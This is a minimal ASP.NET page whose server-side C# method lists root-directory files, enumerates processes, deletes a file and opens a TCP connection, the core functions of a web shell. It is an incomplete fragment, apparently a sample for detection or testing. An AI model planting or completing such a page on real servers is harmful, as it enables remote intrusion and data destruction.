<%@ Page Language="C#" %><script runat="server">void a(){ Directory.GetFiles("/"); Process.GetProcesses(); File.Delete(x); new TcpClient(h, 1); }</script>
